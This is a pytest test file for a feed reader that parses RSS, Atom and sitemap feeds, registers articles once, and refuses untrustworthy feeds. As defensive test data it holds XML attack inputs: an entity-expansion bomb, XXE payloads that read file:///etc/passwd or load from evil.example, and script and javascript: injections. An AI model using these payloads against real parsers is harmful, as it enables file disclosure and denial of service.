"""Feeds of other sites: read with bounds, registered once, broken ones refused with their place."""

from datetime import UTC, datetime

import pytest
from site_world import AT

from parindex.apps.audit.models import Entry
from parindex.apps.news.feeds import LARGEST, MOST_ITEMS, read_feed, read_instant
from parindex.apps.news.models import Article, Feed
from parindex.apps.news.registering import fetch_due, fetch_feed, follow_feed, leave_feed, register_feed
from parindex.core.kernel.problems import Refused
from parindex.core.wording.refusals import SENTENCES, refusal_sentence


WHO = {"by": "person:71", "at": AT}
RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Cổng</title>
<item><title>Bài một &amp; hai</title><link>https://cong.example/tin/1?utm_source=rss</link>
<pubDate>Mon, 08 Dec 2025 08:30:00 +0700</pubDate>
<description>&lt;p&gt;Tóm &lt;b&gt;tắt&lt;/b&gt;&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;
</description></item>
<item><title>Bài hai</title><guid>https://cong.example/tin/2</guid><dc:date>2025-12-09</dc:date></item>
<item><title>Không ngày</title><link>https://cong.example/tin/3</link></item>
<item><title>Không địa chỉ</title><pubDate>Mon, 08 Dec 2025 08:30:00 +0700</pubDate></item>
<item><title>Sang năm</title><link>https://cong.example/tin/4</link><pubDate>2027-01-01T00:00:00Z</pubDate></item>
<item><title>Kẻ xấu</title><link>javascript:alert(1)</link><pubDate>2025-12-01T00:00:00Z</pubDate></item>
</channel></rss>""".encode()
ATOM = """<feed xmlns="http://www.w3.org/2005/Atom"><title>Cổng</title>
<entry><title type="html">Bài &lt;b&gt;ba&lt;/b&gt;</title><link rel="self" href="https://cong.example/api/5"/>
<link href="https://cong.example/tin/5"/><published>2025-12-10T01:00:00Z</published><summary>Ba</summary></entry>
</feed>""".encode()
SITEMAP = b"""<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
 xmlns:news="http://www.google.com/schemas/sitemap-news/0.9">
<url><loc>https://cong.example/tin/cai-cach-thu-tuc.html</loc><lastmod>2025-12-11</lastmod></url>
<url><loc>https://cong.example/tin/7</loc><news:news><news:publication_date>2025-12-12T08:00:00+07:00</news:publication_date>
<news:title>B\xe1\xba\xa3n tin</news:title></news:news></url></urlset>"""
BOMB = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>
<rss><channel><item><title>&lol2;</title></item></channel></rss>"""


def test_rss_is_read_with_what_it_lacks():
    """Marks within titles and summaries are text; what cannot be registered says why."""
    found = read_feed(RSS, at=AT)
    assert [(i.url, i.title, i.summary) for i in found.items] == [
        ("https://cong.example/tin/1", "Bài một & hai", "Tóm tắt alert(1)"),
        ("https://cong.example/tin/2", "Bài hai", ""),
    ]
    assert found.items[0].at == datetime(2025, 12, 8, 1, 30, tzinfo=UTC)
    assert [(s.place, s.code) for s in found.skipped] == [
        (3, "item_without_date"),
        (4, "item_without_link"),
        (5, "item_ahead"),
        (6, "news_url_unusable"),
    ]


def test_atom_and_sitemaps_are_read():
    """A plain sitemap knows no titles: the address says one."""
    (entry,) = read_feed(ATOM, at=AT).items
    assert (entry.url, entry.title, entry.summary) == ("https://cong.example/tin/5", "Bài ba", "Ba")
    assert [(i.title, i.at.day) for i in read_feed(SITEMAP, at=AT).items] == [
        ("cai cach thu tuc", 11),
        ("Bản tin", 12),
    ]


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (BOMB, "feed_entities"),
        (b'<!DOCTYPE rss SYSTEM "file:///etc/passwd"><rss/>', "feed_entities"),
        (
            b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><item><title>&x;</title></item></rss>',
            "feed_entities",
        ),
        (b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><rss/>', "feed_entities"),
        (RSS[:400], "feed_broken"),
        (b"", "feed_broken"),
        (b"<rss><channel><item>&nbsp;</item></channel></rss>", "feed_broken"),
        (b'<?xml version="1.0" encoding="no-such"?><rss/>', "feed_broken"),
        (b"\xff\xfe\x00", "feed_broken"),
        (b"<html><body>Not found</body></html>", "feed_kind"),
        (b"<rss><channel></channel></rss>", "feed_empty"),
        (b"<rss>" + b"<item/>" * (MOST_ITEMS + 1) + b"</rss>", "feed_long"),
        (b" " * (LARGEST + 1), "feed_heavy"),
    ],
    ids=lambda v: v if isinstance(v, str) else f"{v[:12]!r}-{len(v)}",
)
def test_a_feed_that_cannot_be_trusted_is_refused_whole(small, content, code):
    """Entities before they are opened; nothing is registered."""
    with pytest.raises(Refused) as refusal:
        register_feed(unit=small.units["so-mot"], content=content, origin="x", **WHO)
    assert refusal.value.code == code
    assert all(refusal_sentence(code, refusal.value.data, lang) for lang in ("vi", "en"))
    assert not Article.objects.filter(territory=small.territory).exists()


def test_a_broken_feed_names_its_line():
    """Where to look."""
    with pytest.raises(Refused) as refusal:
        read_feed(b"<rss>\n<item>\n<oops</rss>", at=AT)
    assert refusal.value.data["line"] == 3


@pytest.mark.parametrize(
    "text", ["", "hôm qua", "2025-13-45", "Mon, 99 Foo 2025", "0001-01-01T00:00:00+14:00", "9" * 50]
)
def test_what_is_no_date_is_none(text):
    """Whatever it looks like."""
    assert read_instant(text) is None


def test_articles_are_registered_once(small):
    """With their own date and address, marked as outside; the second time changes nothing."""
    unit = small.units["so-mot"]
    first = register_feed(unit=unit, content=RSS, origin="rss.xml", **WHO)
    assert (len(first.new), first.known, len(first.skipped)) == (2, 0, 4)
    kept = Article.objects.filter(territory=small.territory).order_by("number")
    assert [(a.outside, a.state, a.published_at.day, a.unit) for a in kept] == [
        ("https://cong.example/tin/1", "published", 8, unit),
        ("https://cong.example/tin/2", "published", 9, unit),
    ]
    entries = Entry.objects.count()
    again = register_feed(unit=unit, content=RSS, origin="rss.xml", **WHO)
    other = register_feed(unit=small.units["so-hai"], content=RSS, origin="rss.xml", **WHO)
    assert [(len(r.new), r.known) for r in (again, other)] == [(0, 2), (0, 2)]
    assert Entry.objects.count() == entries


def test_a_followed_feed_is_fetched_once_a_day(small):
    """What one of them cannot is kept with it, and stops no other."""
    good = follow_feed(unit=small.units["so-mot"], url="https://cong.example/rss", **WHO)
    bad = follow_feed(unit=small.units["so-hai"], url="https://hai.example/rss", **WHO)
    left = leave_feed(feed=follow_feed(unit=small.units["so-hai"], url="https://ba.example/", **WHO), **WHO)
    asked = []

    def get(url):
        asked.append(url)
        return RSS if "cong" in url else BOMB

    assert [fetch_due(AT, by="system", get=get) for _ in range(2)] == [2, 0]
    assert sorted(asked) == [good.url, bad.url]
    assert list(Feed.objects.order_by("pk").values_list("fault", "fetched_at")) == [
        ("", AT),
        ("feed_entities", AT),
        ("", None),
    ]
    assert (left.followed, follow_feed(unit=left.unit, url=left.url, **WHO).followed) == (False, True)
    with pytest.raises(Refused):
        fetch_feed(feed=bad, get=get, **WHO)


def test_every_code_of_the_readers_has_its_sentence():
    """Those that are kept with a feed too."""
    codes = {f"fetch_{why}" for why in ("private", "port", "unknown_host", "failed", "redirects", "slow")}
    assert codes <= set(SENTENCES)
